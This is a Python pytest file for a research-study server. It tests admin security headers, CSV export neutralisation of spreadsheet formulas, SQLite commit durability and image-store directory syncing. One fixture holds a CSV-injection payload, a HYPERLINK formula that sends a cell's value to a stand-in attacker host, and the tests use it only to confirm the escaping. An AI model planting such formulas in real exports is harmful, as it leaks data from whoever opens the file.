"""Issue 25, researcher side: security headers on every admin route, formula-safe CSV
exports, database-backed login throttling, durable SQLite commits and image files."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from server.app import create_app
from server.auth import create_admin_user
from server.db.models import ParticipantSession, Response
from server.db.session import session_scope
from server.security_headers import ADMIN_SECURITY_HEADERS, is_researcher_path
from server.studies.simulate import run_simulation, serve_in_thread

PASSWORD = "a strong enough password"


def _login(client, email="lead@lab.org", password=PASSWORD, headers=None):
    page = client.get("/admin/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    return client.post(
        "/admin/login",
        data={"email": email, "password": password, "csrf": csrf},
        headers=headers or {},
        follow_redirects=False,
    )


def _admin_routes(app) -> list[tuple[str, str]]:
    """(path, method) of every researcher-side route, through included routers too."""
    found = []
    for route in app.routes:
        routes = route.original_router.routes if hasattr(route, "original_router") else [route]
        for inner in routes:
            path = getattr(inner, "path", "")
            if not is_researcher_path(path):
                continue
            found += [(path, m) for m in getattr(inner, "methods", None) or () if m != "HEAD"]
    return found


def _assert_security_headers(response, what) -> None:
    for name, value in ADMIN_SECURITY_HEADERS.items():
        if name == "Content-Security-Policy":
            assert "frame-ancestors 'none'" in response.headers.get(name, ""), (what, name)
        else:
            assert response.headers.get(name) == value, (what, name, response.headers.get(name))


# --- finding 6: security headers -----------------------------------------------------------


@pytest.fixture
def admin_client(app, client):
    with session_scope(app.state.session_factory) as db:
        create_admin_user(db, "lead@lab.org", PASSWORD)
    return client


def test_every_admin_route_sends_security_headers_logged_out_and_in(app, admin_client):
    """Walks the router table: a route added later is covered without touching this test."""
    routes = _admin_routes(app)
    assert len(routes) >= 7, routes
    for logged_in in (False, True):
        if logged_in:
            assert _login(admin_client).status_code == 303
        for path, method in routes:
            url = re.sub(r"\{[^}]+\}", "x", path)
            response = admin_client.request(method, url, data={"csrf": "x"}, follow_redirects=False)
            _assert_security_headers(response, (logged_in, method, path, response.status_code))


def test_participant_pages_keep_their_own_policy(admin_client):
    """MTurk frames the task page: the admin policy must not leak onto participant pages."""
    page = admin_client.get("/s/imi-demo")
    assert "https://*.mturk.com" in page.headers["content-security-policy"]
    assert "x-frame-options" not in page.headers
    assert "x-frame-options" not in admin_client.get("/api/v1/studies/nope").headers


# --- CSV part of finding 9: formula cells ----------------------------------------------------


def test_neutralise_formulas_leaves_numbers_alone():
    from analysis.export import neutralise_formulas

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", None],
            "mixed": [-3.5, "-2", 4, "a", None, "=x", 0.0, "b"],
            "rt_ms": [-12.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["text"].tolist()[:7] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
    ]
    assert safe["text"].isna().iloc[-1]
    assert safe["mixed"].tolist()[:6] == [-3.5, "'-2", 4, "a", None, "'=x"]
    assert safe["rt_ms"].tolist() == frame["rt_ms"].tolist()
    assert frame["text"].iloc[0] == "=1+1"  # the caller's frame is not modified


INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def study_with_formula(live_study):
    """Two simulated participants; one's exclusion reason is a formula, one rt_ms negative."""
    settings, factory, study = live_study
    with serve_in_thread(create_app(settings)) as url:
        result = run_simulation(url, study.slug, 2, "random", concurrency=2, seed=9)
    with session_scope(factory) as db:
        session = db.get(ParticipantSession, result.session_ids[0])
        session.exclusion_reason = INJECTED
        first = db.scalars(select(Response).where(Response.session_id == session.id)).first()
        first.rt_ms = -12.5
    with session_scope(factory) as db:
        create_admin_user(db, "csv@lab.org", PASSWORD)
    return settings, study


def _check_csv(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    reasons = {row["exclusion_reason"] for row in rows}
    assert "'" + INJECTED in reasons and INJECTED not in reasons
    assert "-12.5" in {row["rt_ms"] for row in rows}  # numbers stay numbers


def test_cli_csv_export_neutralises_formulas(study_with_formula, tmp_path):
    from analysis.export import export_study

    settings, study = study_with_formula
    result = export_study(settings, study.slug, "csv", tmp_path / "out.csv")
    _check_csv(result.path.read_text())
    back = pd.read_csv(result.path)
    assert back["rt_ms"].dtype == float and back["rt_ms"].min() == -12.5


def test_admin_csv_export_neutralises_formulas_and_is_not_cached(study_with_formula):
    settings, study = study_with_formula
    with TestClient(create_app(settings)) as client:
        assert _login(client, email="csv@lab.org").status_code == 303
        export = client.get(f"/admin/studies/{study.slug}/export.csv")
        assert export.status_code == 200
        _check_csv(export.text)
        _assert_security_headers(export, "export.csv")


# --- finding 8: durability -----------------------------------------------------------------


def synchronous_level(conn) -> int:
    """A hot-path write (module level: it travels to the writer process by pickle)."""
    return conn.exec_driver_sql("PRAGMA synchronous").scalar()


def test_sqlite_commits_are_durable_in_the_writer_process_and_elsewhere(sqlite_url):
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from server.db.migrate import upgrade_database
    from server.db.session import make_engine
    from server.db.write_process import close_writers, writer_for

    upgrade_database(sqlite_url)
    engine = make_engine(sqlite_url)

    async def in_writer() -> tuple[int, int | None]:
        writer = writer_for(engine)
        try:
            return await writer.run(synchronous_level), writer.pid
        finally:
            await close_writers(engine)

    with ThreadPoolExecutor(1) as pool:  # a loop of its own (a browser test's may be running)
        level, pid = pool.submit(asyncio.run, in_writer()).result()
    FULL = 2
    assert pid is not None and level == FULL
    with engine.connect() as conn:
        assert synchronous_level(conn) == FULL
    engine.dispose()


def test_image_store_syncs_the_directory_after_the_rename(tmp_path, monkeypatch):
    """A spy on the real os.fsync: which directories were synced after a first write."""
    import os
    import stat

    import numpy as np

    from server.stimuli.store import ImageStore

    synced_dirs = []
    real_fsync = os.fsync

    def spy(fd):
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            synced_dirs.append(os.readlink(f"/proc/self/fd/{fd}"))
        return real_fsync(fd)

    monkeypatch.setattr(os, "fsync", spy)
    store = ImageStore(tmp_path / "stimuli")
    stored = store.put(np.zeros((4, 4, 3), np.uint8))
    path, _ = store.locate(stored.sha256)
    # The file's own directory (the rename), and each directory created for it in its parent.
    expected = {path.parent, path.parent.parent, tmp_path / "stimuli", tmp_path}
    assert {str(d) for d in expected} <= set(synced_dirs)
    synced_dirs.clear()
    store.put(np.ones((4, 4, 3), np.uint8))  # a second image: its directory synced too
    assert synced_dirs, "every new file's directory is synced"
